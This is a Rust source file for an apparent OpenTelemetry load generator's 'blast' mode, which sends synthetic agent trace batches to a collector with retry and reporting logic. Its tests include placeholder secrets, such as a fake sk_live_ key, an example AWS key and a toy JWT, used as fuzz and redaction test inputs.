                s("deployment.environment.name", "loadgen"),
            ],
            ..Default::default()
        }),
        scope_spans: vec![ScopeSpans {
            scope: Some(InstrumentationScope {
                name: scope.into(),
                version: "0.9.0".into(),
                ..Default::default()
            }),
            spans,
            ..Default::default()
        }],
        ..Default::default()
    }
}

/// Templates for a blast: enough that every tenant appears in one (at least 8).
fn blast_templates(opts: &BlastOptions) -> Result<Vec<Template>, LoadgenError> {
    let per = opts.requests_per_batch.max(1);
    let needed = (opts.tenants.max(1) as usize).div_ceil(per as usize);
    if needed > BLAST_MAX_TEMPLATES {
        return Err(LoadgenError::Options(format!(
            "--tenants {} needs more than {BLAST_MAX_TEMPLATES} batch templates of {per} \
             requests: at most {} tenants, or more --requests-per-batch",
            opts.tenants,
            BLAST_MAX_TEMPLATES * per as usize
        )));
    }
    let mut gen = Generator {
        rng: StdRng::seed_from_u64(opts.seed),
        seed: opts.seed,
        base_ns: 0,
        profile: Profile::Normal,
        tenant_prefix: opts.tenant_prefix.clone(),
    };
    (0..needed.max(BLAST_MIN_TEMPLATES))
        .map(|index| blast_template(&mut gen, index, per, opts.tenants, opts.tenant_on))
        .collect::<Result<_, _>>()
        .map_err(LoadgenError::Options)
}

/// What a blast sent and had acknowledged.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BlastReport {
    /// Agent requests acknowledged.
    pub requests: u64,
    /// Spans acknowledged (less any the daemon reported rejected in a partial success).
    pub spans: u64,
    /// Of the acknowledged batches' spans: agent spans.
    pub agent_spans: u64,
    /// Model-call spans.
    pub model_spans: u64,
    /// Tool-execution spans.
    pub tool_spans: u64,
    /// Downstream client spans.
    pub downstream_spans: u64,
    /// Tool spans with a planted fake e-mail and `sk_live_` key.
    pub planted_secrets: u64,
    /// Batches (export calls) acknowledged.
    pub batches: u64,
    /// Spans an acknowledgement reported as rejected (`partial_success`).
    pub rejected_spans: u64,
    /// Refusals (HTTP 429/502/503/504), each followed by a resend of the same batch.
    pub refused: u64,
    /// Transport errors (refused or reset connections), each followed by a resend.
    pub transport_errors: u64,
    /// Batches given up because the duration ran out while they were refused.
    pub abandoned: u64,
    /// Batches that failed for good (a non-retryable answer, or retries exhausted).
    pub failed_batches: u64,
    /// Bytes of acknowledged protobuf bodies.
    pub bytes: u64,
    /// Bytes of every protobuf body sent, resends included.
    pub bytes_sent: u64,
    /// From the first send until the last answer, ms.
    pub elapsed_ms: u64,
    /// Connections used.
    pub connections: u64,
    /// Requests per batch.
    pub requests_per_batch: u64,
    /// Tenants the requests were spread over.
    pub tenants: u64,
    /// Where the tenant was named.
    pub tenant_on: TenantOn,
    /// Distinct batch templates.
    pub templates: u64,
}

impl BlastReport {
    fn seconds(&self) -> f64 {
        (self.elapsed_ms as f64 / 1000.0).max(0.001)
    }

    /// The report as one JSON object. `exports` repeats `batches` under the name the
    /// other mode's report uses.
    pub fn to_json(&self) -> String {
        serde_json::json!({
            "mode": "blast",
            "requests": self.requests,
            "spans": self.spans,
            "agent_spans": self.agent_spans,
            "model_spans": self.model_spans,
            "tool_spans": self.tool_spans,
            "downstream_spans": self.downstream_spans,
            "planted_secrets": self.planted_secrets,
            "batches": self.batches,
            "exports": self.batches,
            "rejected_spans": self.rejected_spans,
            "refused": self.refused,
            "transport_errors": self.transport_errors,
            "abandoned": self.abandoned,
            "failed_batches": self.failed_batches,
            "bytes": self.bytes,
            "bytes_sent": self.bytes_sent,
            "bytes_per_span": self.bytes.checked_div(self.spans).unwrap_or(0),
            "elapsed_ms": self.elapsed_ms,
            "seconds": self.seconds(),
            "spans_per_s": (self.spans as f64 / self.seconds()).round(),
            "connections": self.connections,
            "requests_per_batch": self.requests_per_batch,
            "tenants": self.tenants,
            "tenant_on": self.tenant_on.as_str(),
            "templates": self.templates,
        })
        .to_string()
    }

    fn merge(&mut self, o: &BlastReport) {
        self.requests += o.requests;
        self.spans += o.spans;
        self.agent_spans += o.agent_spans;
        self.model_spans += o.model_spans;
        self.tool_spans += o.tool_spans;
        self.downstream_spans += o.downstream_spans;
        self.planted_secrets += o.planted_secrets;
        self.batches += o.batches;
        self.rejected_spans += o.rejected_spans;
        self.refused += o.refused;
        self.transport_errors += o.transport_errors;
        self.abandoned += o.abandoned;
        self.failed_batches += o.failed_batches;
        self.bytes += o.bytes;
        self.bytes_sent += o.bytes_sent;
    }

    fn acked(&mut self, counts: &RunCounts, bytes: u64, rejected: u64) {
        self.batches += 1;
        self.requests += counts.runs;
        self.spans += counts.spans().saturating_sub(rejected);
        self.rejected_spans += rejected;
        self.agent_spans += counts.agent;
        self.model_spans += counts.model;
        self.tool_spans += counts.tool;
        self.downstream_spans += counts.downstream;
        self.planted_secrets += counts.planted;
        self.bytes += bytes;
    }
}

impl fmt::Display for BlastReport {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let secs = self.seconds();
        writeln!(
            f,
            "blast: batches {}  requests {}  spans {} (agent {}, model {}, tool {}, downstream {})",
            self.batches,
            self.requests,
            self.spans,
            self.agent_spans,
            self.model_spans,
            self.tool_spans,
            self.downstream_spans
        )?;
        writeln!(
            f,
            "{} connections, {} requests a batch, {} tenants named on {} spans, {} templates",
            self.connections,
            self.requests_per_batch,
            self.tenants,
            self.tenant_on.as_str(),
            self.templates
        )?;
        writeln!(
            f,
            "bytes {} ({} a span), sent {}  refused {}  transport errors {}  abandoned {}  \
             failed {}  rejected spans {}  planted secrets {}",
            self.bytes,
            self.bytes.checked_div(self.spans).unwrap_or(0),
            self.bytes_sent,
            self.refused,
            self.transport_errors,
            self.abandoned,
            self.failed_batches,
            self.rejected_spans,
            self.planted_secrets
        )?;
        write!(
            f,
            "elapsed {:.1}s  {:.0} spans/s  {:.1} MiB/s",
            secs,
            self.spans as f64 / secs,
            self.bytes as f64 / secs / (1024.0 * 1024.0)
        )
    }
}

/// Outcome of one blast POST.
enum BlastSent {
    /// Acknowledged; spans the answer reported rejected.
    Acked(u64),
    /// Refused with a retryable status, with the server's Retry-After if it gave one.
    Refused(Option<Duration>, String),
    /// The connection failed (refused, reset, closed).
    Transport(String),
    /// A final answer other than success.
    Fail(String),
}

async fn blast_post(client: &reqwest::Client, url: &reqwest::Url, body: bytes::Bytes) -> BlastSent {
    use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceResponse;
    let resp = client
        .post(url.clone())
        .header(reqwest::header::CONTENT_TYPE, "application/x-protobuf")
        .body(body)
        .send()
        .await;
    match resp {
        Ok(r) if r.status().is_success() => {
            // The status alone is the acknowledgement; the body may report rejected spans.
            let rejected = r
                .bytes()
                .await
                .ok()
                .and_then(|b| ExportTraceServiceResponse::decode(b).ok())
                .and_then(|m| m.partial_success)
                .map_or(0, |p| u64::try_from(p.rejected_spans).unwrap_or(0));
            BlastSent::Acked(rejected)
        }
        Ok(r) if matches!(r.status().as_u16(), 429 | 502 | 503 | 504) => {
            let after = retry_after(&r);
            let why = format!("HTTP {}", r.status());
            // Read the answer to the end, so that the connection is kept.
            let _ = r.bytes().await;
            BlastSent::Refused(after, why)
        }
        Ok(r) => {
            let status = r.status();
            let text = r.text().await.unwrap_or_default();
            let text: String = text.chars().take(300).collect();
            BlastSent::Fail(format!("HTTP {status}: {text}"))
        }
        Err(e) if e.is_builder() => BlastSent::Fail(e.to_string()),
        Err(e) => BlastSent::Transport(transport_error(&e)),
    }
}

/// What every blast connection shares.
struct BlastRun {
    templates: Vec<Template>,
    url: reqwest::Url,
    salt: Salt,
    requests_per_batch: u32,
    next_batch: std::sync::atomic::AtomicU64,
    deadline: Option<Instant>,
    batches: Option<u64>,
}

/// How one batch ended.
enum BatchEnd {
    Acked(u64),
    Abandoned,
    Failed(String),
}

fn now_ns() -> u64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos() as u64)
        .unwrap_or(0)
}

/// Sends one batch until it is acknowledged, abandoned at the deadline, or fails.
async fn blast_batch(
    client: &reqwest::Client,
    run: &BlastRun,
    body: bytes::Bytes,
    report: &mut BlastReport,
) -> BatchEnd {
    let first = Instant::now();
    let mut transport_since: Option<Instant> = None;
    let mut backoff = toolwatch::retry::Backoff::new(FIRST_BACKOFF, MAX_BACKOFF);
    loop {
        report.bytes_sent += body.len() as u64;
        let wait = match blast_post(client, &run.url, body.clone()).await {
            BlastSent::Acked(rejected) => return BatchEnd::Acked(rejected),
            BlastSent::Refused(after, why) => {
                report.refused += 1;
                transport_since = None;
                if first.elapsed() > MAX_BLAST_REFUSAL_TIME {
                    return BatchEnd::Failed(format!(
                        "still refused after {:.0}s: {why}",
                        first.elapsed().as_secs_f64()
                    ));
                }
                match after {
                    Some(after) => after.min(MAX_SUGGESTED_DELAY),
                    None => backoff.next_wait(None),
                }
            }
            BlastSent::Transport(why) => {
                report.transport_errors += 1;
                let since = *transport_since.get_or_insert_with(Instant::now);
                if since.elapsed() > MAX_BLAST_TRANSPORT_TIME {
                    return BatchEnd::Failed(format!(
                        "no connection for {:.0}s: {why}",
                        since.elapsed().as_secs_f64()
                    ));
                }
                backoff.next_wait(None)
            }
            BlastSent::Fail(why) => return BatchEnd::Failed(why),
        };
        if run.deadline.is_some_and(|d| Instant::now() + wait >= d) {
            return BatchEnd::Abandoned;
        }
        tokio::time::sleep(wait).await;
    }
}

/// One connection: the next batch as soon as the previous one is answered.
async fn blast_connection(run: Arc<BlastRun>, client: reqwest::Client) -> BlastReport {
    use std::sync::atomic::Ordering;
    let mut report = BlastReport::default();
    let mut buf = Vec::new();
    loop {
        if run.deadline.is_some_and(|d| Instant::now() >= d) {
            break;
        }
        let batch = run.next_batch.fetch_add(1, Ordering::Relaxed);
        if run.batches.is_some_and(|n| batch >= n) {
            break;
        }
        let template = &run.templates[(batch % run.templates.len() as u64) as usize];
        template.instantiate(batch, run.requests_per_batch, &run.salt, now_ns(), &mut buf);
        let body = bytes::Bytes::from(std::mem::take(&mut buf));
        let len = body.len() as u64;
        match blast_batch(&client, &run, body, &mut report).await {
            BatchEnd::Acked(rejected) => report.acked(&template.counts, len, rejected),
            BatchEnd::Abandoned => {
                report.abandoned += 1;
                break;
            }
            BatchEnd::Failed(why) => {
                report.failed_batches += 1;
                eprintln!("toolwatch loadgen: blast batch {batch} failed: {why}");
                break;
            }
        }
    }
    report
}

/// Sends the blast and reports what was acknowledged.
pub async fn blast(opts: BlastOptions) -> Result<BlastReport, LoadgenError> {
    if opts.connections == 0 || opts.requests_per_batch == 0 || opts.tenants == 0 {
        return Err(LoadgenError::Options(
            "--connections, --requests-per-batch and --tenants must be at least 1".into(),
        ));
    }
    let url = reqwest::Url::parse(&format!("{}/v1/traces", opts.target.trim_end_matches('/')))
        .ok()
        .filter(|u| matches!(u.scheme(), "http" | "https"))
        .ok_or_else(|| LoadgenError::Target(opts.target.clone()))?;
    let templates = blast_templates(&opts)?;
    let template_count = templates.len() as u64;
    let mut clients = Vec::new();
    for _ in 0..opts.connections {
        // One client per connection, one batch in flight on it: one keep-alive connection.
        let client = reqwest::Client::builder()
            .default_headers(auth_headers(opts.token.as_deref())?)
            .pool_max_idle_per_host(1)
            .tcp_nodelay(true)
            // An answer this late counts as a transport error: the batch is sent again.
            .timeout(BLAST_ANSWER_TIMEOUT)
            .build()
            .map_err(|e| LoadgenError::Connect {
                target: opts.target.clone(),
                detail: e.to_string(),
            })?;
        clients.push(client);
    }
    let started = Instant::now();
    let run = Arc::new(BlastRun {
        templates,
        url,
        salt: Salt::random(),
        requests_per_batch: opts.requests_per_batch,
        next_batch: std::sync::atomic::AtomicU64::new(0),
        deadline: match opts.length {
            BlastLength::Duration(d) => Some(started + d),
            BlastLength::Batches(_) => None,
        },
        batches: match opts.length {
            BlastLength::Batches(n) => Some(n),
            BlastLength::Duration(_) => None,
        },
    });
    let mut tasks = tokio::task::JoinSet::new();
    for client in clients {
        tasks.spawn(blast_connection(Arc::clone(&run), client));
    }
    let mut report = BlastReport {
        connections: opts.connections as u64,
        requests_per_batch: u64::from(opts.requests_per_batch),
        tenants: u64::from(opts.tenants),
        tenant_on: opts.tenant_on,
        templates: template_count,
        ..Default::default()
    };
    while let Some(done) = tasks.join_next().await {
        match done {
            Ok(r) => report.merge(&r),
            Err(_) => report.failed_batches += 1,
        }
    }
    report.elapsed_ms = started.elapsed().as_millis() as u64;
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn same_seed_same_traffic() {
        let a = generate(7, 2, 1_700_000_000_000_000_000, 3);
        let b = generate(7, 2, 1_700_000_000_000_000_000, 3);
        let c = generate(8, 2, 1_700_000_000_000_000_000, 3);
        let enc = |runs: &[AgentRun]| {
            runs.iter()
                .map(|r| r.traces.encode_to_vec())
                .collect::<Vec<_>>()
        };
        assert_eq!(enc(&a), enc(&b));
        assert_ne!(enc(&a), enc(&c));
    }

    #[tokio::test]
    async fn retryable_outcomes_are_retried_and_failures_are_not() {
        let mut calls = 0;
        let r = send_with_retry(|| {
            calls += 1;
            let n = calls;
            async move {
                match n {
                    1 => Sent::Retry(None, "connection reset".into()),
                    2 => Sent::Retry(Some(Duration::from_millis(10)), "HTTP 429".into()),
                    _ => Sent::Ok(7),
                }
            }
        })
        .await;
        assert_eq!(r, Ok((7, 2)));
        let mut calls = 0;
        let r = send_with_retry(|| {
            calls += 1;
            async { Sent::Fail("HTTP 400".into()) }
        })
        .await;
        assert_eq!(r, Err("HTTP 400".to_string()));
        assert_eq!(calls, 1);
    }

    #[test]
    fn span_id_lines_list_every_span_of_an_export() {
        let runs = generate(5, 1, 1_700_000_000_000_000_000, 2);
        let lines = span_id_lines(&runs[0].traces);
        assert_eq!(lines.lines().count() as u64, runs[0].counts.spans());
        for line in lines.lines() {
            let (t, s) = line.split_once(' ').expect("two ids");
            assert_eq!((t.len(), s.len()), (32, 16), "{line}");
            assert!(line.chars().all(|c| c == ' ' || c.is_ascii_hexdigit()));
        }
    }

    #[test]
    fn counts_match_the_generated_spans() {
        for run in generate(3, 1, 1_700_000_000_000_000_000, 20) {
            let spans: usize = run
                .traces
                .resource_spans
                .iter()
                .flat_map(|r| &r.scope_spans)
                .map(|s| s.spans.len())
                .sum();
            assert_eq!(spans as u64, run.counts.spans());
            let logs: usize = run
                .logs
                .resource_logs
                .iter()
                .flat_map(|r| &r.scope_logs)
                .map(|s| s.log_records.len())
                .sum();
            assert_eq!(logs as u64, run.counts.logs);
        }
    }

    fn blast_opts(tenants: u32, tenant_on: TenantOn) -> BlastOptions {
        BlastOptions {
            target: "http://127.0.0.1:4318".into(),
            connections: 2,
            length: BlastLength::Batches(1),
            requests_per_batch: 40,
            tenants,
            tenant_on,
            seed: 1,
            token: None,
            tenant_prefix: DEFAULT_TENANT_PREFIX.into(),
        }
    }

    fn all_spans(req: &ExportTraceServiceRequest) -> Vec<&Span> {
        req.resource_spans
            .iter()
            .flat_map(|r| &r.scope_spans)
            .flat_map(|s| &s.spans)
            .collect()
    }

    fn attr<'a>(span: &'a Span, key: &str) -> Option<&'a str> {
        span.attributes
            .iter()
            .find(|kv| kv.key == key)
            .and_then(
                |kv| match kv.value.as_ref().and_then(|v| v.value.as_ref()) {
                    Some(any_value::Value::StringValue(s)) => Some(s.as_str()),
                    _ => None,
                },
            )
    }

    #[test]
    fn blast_sends_carry_fresh_consistent_ids_and_times() {
        use std::collections::{HashMap, HashSet};
        const NOW: u64 = 1_800_000_000_000_000_000;
        for tenant_on in [TenantOn::Root, TenantOn::Every] {
            let templates = blast_templates(&blast_opts(20, tenant_on)).expect("templates");
            let salt = Salt::random();
            let (mut span_ids, mut trace_ids, mut request_ids) =
                (HashSet::new(), HashSet::new(), HashSet::new());
            let mut buf = Vec::new();
            // Two rounds over the templates: the same bytes again get other ids.
            for batch in 0..2 * templates.len() as u64 {
                let t = &templates[(batch % templates.len() as u64) as usize];
                t.instantiate(batch, 40, &salt, NOW, &mut buf);
                assert_eq!(buf.len(), t.body.len());
                assert!(!buf.windows(4).any(|w| w == [0xF5; 4] || w == [0xF6; 4]));
                assert!(!buf.windows(8).any(|w| w == b"req-~~~~"));
                let req = ExportTraceServiceRequest::decode(&buf[..]).expect("decodes");
                let spans = all_spans(&req);
                assert_eq!(spans.len(), 400);
                let mut by_trace: HashMap<&[u8], Vec<&Span>> = HashMap::new();
                for span in &spans {
                    assert_eq!((span.trace_id.len(), span.span_id.len()), (16, 8));
                    assert!(span.trace_id.iter().any(|b| *b != 0));
                    assert!(span.span_id.iter().any(|b| *b != 0));
                    assert!(span_ids.insert(span.span_id.clone()), "span id reused");
                    assert!(span.start_time_unix_nano <= span.end_time_unix_nano);
                    assert!(span.end_time_unix_nano <= NOW);
                    assert!(span.start_time_unix_nano >= NOW - t.extent_ns);
                    by_trace.entry(&span.trace_id).or_default().push(span);
                }
                assert_eq!(by_trace.len(), 40);
                for (trace, spans) in by_trace {
                    assert!(trace_ids.insert(trace.to_vec()), "trace id reused");
                    assert_eq!(spans.len(), 10);
                    let roots: Vec<&&Span> = spans
                        .iter()
                        .filter(|s| s.parent_span_id.is_empty())
                        .collect();
                    assert_eq!(roots.len(), 1);
                    let root = roots[0];
                    assert_eq!(attr(root, "gen_ai.operation.name"), Some("invoke_agent"));
                    let request_id = attr(root, "executor.request_id").expect("request id");
                    assert_eq!(request_id.len(), REQUEST_ID_LEN);
                    assert!(request_id.starts_with("req-"));
                    assert!(
                        request_ids.insert(request_id.to_string()),
                        "request id reused"
                    );
                    let tenant = attr(root, "executor.tenant_id").expect("tenant on the root");
                    assert!(tenant.starts_with("tenant-"));
                    let ids: HashMap<&[u8], &Span> =
                        spans.iter().map(|s| (&s.span_id[..], *s)).collect();
                    for span in spans.iter().filter(|s| !s.parent_span_id.is_empty()) {
                        let parent = ids[&span.parent_span_id[..]];
                        let op = attr(span, "gen_ai.operation.name");
                        let downstream = op.is_none();
                        if downstream {
                            assert_eq!(span.kind, SpanKind::Client as i32);
                            assert_eq!(attr(parent, "gen_ai.operation.name"), Some("execute_tool"));
                            assert!(attr(span, "http.request.method").is_some());
                        } else {
                            assert_eq!(parent.span_id, root.span_id);
                        }
                        let (want_request, want_tenant) = match tenant_on {
                            TenantOn::Every => (Some(request_id), Some(tenant)),
                            TenantOn::Root if downstream => (None, None),
                            TenantOn::Root => (Some(request_id), None),
                        };
                        assert_eq!(attr(span, "executor.request_id"), want_request);
                        assert_eq!(attr(span, "executor.tenant_id"), want_tenant);
                    }
                }
            }
        }
    }

    #[test]
    fn blast_batches_have_the_issue_shape() {
        use std::collections::BTreeMap;
        let templates = blast_templates(&blast_opts(20, TenantOn::Root)).expect("templates");
        assert_eq!(templates.len(), 8);
        let mut roots_by_tenant: BTreeMap<String, u64> = BTreeMap::new();
        for t in &templates {
            let c = t.counts;
            assert_eq!(
                (c.runs, c.agent, c.model, c.tool, c.downstream, c.planted),
                (40, 40, 120, 120, 120, 24)
            );
            let per_span = t.body.len() as u64 / c.spans();
            assert!((900..=1000).contains(&per_span), "{per_span} bytes a span");
            let req = ExportTraceServiceRequest::decode(&t.body[..]).expect("decodes");
            let services: Vec<&str> = req
                .resource_spans
                .iter()
                .filter_map(|r| {
                    let res = r.resource.as_ref()?;
                    res.attributes.iter().find(|kv| kv.key == "service.name")?;
                    Some(match &res.attributes[0].value.as_ref()?.value {
                        Some(any_value::Value::StringValue(s)) => s.as_str(),
                        _ => "",
                    })
                })
                .collect();
            assert_eq!(services, ["agent-executor", "orders-api"]);
            let mut planted = 0;
            for span in all_spans(&req) {
                if let Some(args) = attr(span, "gen_ai.tool.call.arguments") {
                    let len =
                        args.len() + attr(span, "gen_ai.tool.call.result").map_or(0, str::len);
                    assert!((1000..=3072).contains(&len), "{len} bytes of JSON");
                    assert!(serde_json::from_str::<serde_json::Value>(args).is_ok());
                    let both =
                        args.contains(BLAST_PLANTED_EMAIL) && args.contains(BLAST_PLANTED_KEY);
                    planted += u64::from(both);
                }
                if attr(span, "gen_ai.operation.name") == Some("chat") {
                    assert!(attr(span, "gen_ai.request.model").is_some());
                }
                if let Some(tenant) = attr(span, "executor.tenant_id") {
                    *roots_by_tenant.entry(tenant.to_string()).or_default() += 1;
                }
            }
            assert_eq!(planted, 24);
        }
        // 320 requests over 20 tenants.
        assert_eq!(roots_by_tenant.len(), 20);
        assert!(roots_by_tenant.values().all(|n| *n == 16));

        // Enough templates for every tenant to be named; too many tenants are refused.
        let many = blast_templates(&blast_opts(1000, TenantOn::Every)).expect("templates");
        assert_eq!(many.len(), 25);
        assert!(matches!(
            blast_templates(&blast_opts(40 * 256 + 1, TenantOn::Root)),
            Err(LoadgenError::Options(_))
        ));
    }

    #[test]
    fn blast_ids_are_unique_and_never_zero() {
        let salt = Salt {
            trace: 1,
            trace_low: 0,
            span: 1,
            request: 0,
        };
        let mut seen = std::collections::HashSet::new();
        for n in 0..10_000 {
            let id = salt.span_id(n);
            assert_ne!(id, [0; 8]);
            assert!(seen.insert(id));
            assert_ne!(salt.trace_id(n)[..8], [0; 8]);
        }
        assert_eq!(&salt.request_id(0)[..4], b"req-");
    }

    /// Seeds of the fuzz targets' mutations ([`toolwatch::fuzz_targets`]): loadgen's traffic
    /// for the OTLP targets, a few secret-bearing texts, one journal record.
    fn fuzz_seeds(target: &str) -> Vec<Vec<u8>> {
        let runs = generate(3, 2, 1_767_225_600_000_000_000, 3);
        let mut out = Vec::new();
        for r in &runs {
            match target {
                "otlp_protobuf" => {
                    out.push(r.traces.encode_to_vec());
                    out.push(r.logs.encode_to_vec());
                }
                "otlp_json" => {
                    out.push(serde_json::to_vec(&r.traces).unwrap_or_default());
                    out.push(serde_json::to_vec(&r.logs).unwrap_or_default());
                }
                "protect_text" => {
                    out.push(br#"{"password": "hunter2!x", "db": "postgres://u:S3cret@h/x", "k": "AKIAIOSFODNN7EXAMPLE"}"#.to_vec());
                    out.push(b"Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl token = x".to_vec());
                    out.push(
                        "ZXhhbXBsZSBiYXNlNjQgc2VjcmV0IGtleQ== é ✓ 4111 1111 1111 1111"
                            .as_bytes()
                            .to_vec(),
                    );
                }
                _ => {
                    let batch = toolwatch::event::EventBatch {
                        spans: vec![toolwatch::event::fixtures::span()],
                        logs: vec![toolwatch::event::fixtures::log()],
                    };
                    out.push(toolwatch::journal::codec::encode_events(&batch).unwrap_or_default());
                }
            }
        }
        out.retain(|s| !s.is_empty());
        out
    }

    /// The fuzz targets on seeded mutations of loadgen's traffic, for a bounded time per target
    /// (TOOLWATCH_FUZZ_SECONDS, default 2). Here rather than in the pipeline's library: its
    /// seeds are loadgen's.
    #[test]
    fn fuzz_targets_never_panic_on_mutated_inputs() {
        use toolwatch::fuzz_targets::{mutation, TARGETS};

        let secs: f64 = std::env::var("TOOLWATCH_FUZZ_SECONDS")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(2.0);
        for (i, (target, run)) in TARGETS.iter().enumerate() {
            let seeds = fuzz_seeds(target);
            assert!(!seeds.is_empty(), "{target} has seeds");
            // A fixed seed unless TOOLWATCH_FUZZ_SEED varies it (long runs).
            let seed = std::env::var("TOOLWATCH_FUZZ_SEED")
                .ok()
                .and_then(|s| s.parse::<u64>().ok())
                .unwrap_or(0x7001);
            let n = mutation::run(
                *run,
                &seeds,
                std::time::Duration::from_secs_f64(secs),
                seed + i as u64,
            );
            eprintln!("fuzz {target}: {n} executions in {secs} s");
            assert!(n > 0);
        }
    }
}
